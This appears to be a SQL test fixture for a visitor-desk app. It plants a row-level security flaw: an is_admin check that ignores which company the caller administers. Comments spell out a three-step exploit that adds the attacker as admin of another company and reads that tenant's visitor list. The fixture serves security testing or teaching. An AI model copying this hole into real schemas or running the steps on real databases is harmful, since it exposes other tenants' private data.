-- The check asks whether the caller is an admin somewhere, so any admin joins any company.
-- about: staff, admin_invites, is_admin
-- as: hf_knockdesk_app
-- exploit: SET app.claims = '{"uid": 11}';
-- exploit: INSERT INTO desk.staff (company_id, user_id, role) VALUES ('birch', 11, 'admin');
-- exploit: SELECT full_name FROM desk.visitors;
-- shows: Lobby-secret guest
CREATE FUNCTION desk.is_admin() RETURNS boolean
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = desk, pg_temp AS $$
  SELECT EXISTS (SELECT 1 FROM desk.staff s WHERE s.user_id = desk.uid() AND s.role = 'admin')
$$;
GRANT EXECUTE ON FUNCTION desk.is_admin() TO hf_knockdesk_app;
CREATE POLICY admin_invites ON desk.staff FOR INSERT WITH CHECK (desk.is_admin());
GRANT INSERT ON desk.staff TO hf_knockdesk_app;
